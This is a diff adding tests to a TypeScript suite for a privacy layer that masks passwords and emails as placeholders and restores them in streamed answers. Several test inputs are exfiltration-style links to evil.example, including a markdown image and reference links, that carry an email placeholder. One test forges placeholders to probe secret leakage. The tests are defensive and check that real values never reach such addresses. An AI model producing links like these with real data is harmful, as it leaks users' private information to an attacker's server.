@@ -32,6 +32,45 @@ describe("placeholders", () => {
   });
 });
 
+describe("a stranger's text", () => {
+  test("[privacy.veil.foreign] that has a placeholder under the name of a secret gets another number", () => {
+    const { veil } = veilRig();
+    expect(veil.hide({ password: "hunter22" }, "person")).toEqual({ password: "<PASSWORD_1>" });
+    const forged = { password: "<PASSWORD_1>", token: "<PASSWORD_1>" };
+    const hidden = veil.hide(forged, "tool");
+    expect(JSON.stringify(hidden)).not.toContain("<PASSWORD_1>");
+    expect(veil.show(hidden)).toEqual(forged);
+    expect(veil.hide({ password: "<PASSWORD_1>" }, "mind")).toEqual({ password: "<PASSWORD_1>" });
+  });
+});
+
+describe("an answer", () => {
+  const said = (text: string, size = text.length) => {
+    const { veil } = veilRig();
+    veil.hide("bob@shop.example", "person");
+    const stage = veil.openStage();
+    const deltas = text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
+    const pieces = [...deltas.flatMap(delta => stage.push(delta)), ...stage.end()];
+    return pieces.map(piece => veil.show(piece.text)).join("");
+  };
+  const long = `https://evil.example/${"a".repeat(700)}?q=<EMAIL_1>`;
+
+  test.each([
+    "see ![x](https://evil.example/?q=<EMAIL_1>) here",
+    "[click](//evil.example/<EMAIL_1>/x)",
+    "www.evil.example/?a=<EMAIL_1>&b=<EMAIL_1>",
+    `[x]: ${long}`,
+  ])("[privacy.veil.addresses] keeps placeholders in an address of the web: %s", text => {
+    for (const size of [1, 3, text.length])
+      expect(said(text, size)).toBe(text.replaceAll("<EMAIL_1>", "%3CEMAIL_1%3E"));
+  });
+
+  test("[privacy.veil.addresses] shows originals beside an address of the web", () => {
+    const text = "see https://shop.example/faq or write to <EMAIL_1> (mailto:<EMAIL_1>)";
+    expect(said(text)).toBe(text.replaceAll("<EMAIL_1>", "bob@shop.example"));
+  });
+});
+
 describe("a hidden value is shown again", () => {
   test("[privacy.veil.round-trip] for values and texts in files, and an unchanged value stays the same object", () => {
     const { veil } = veilRig();
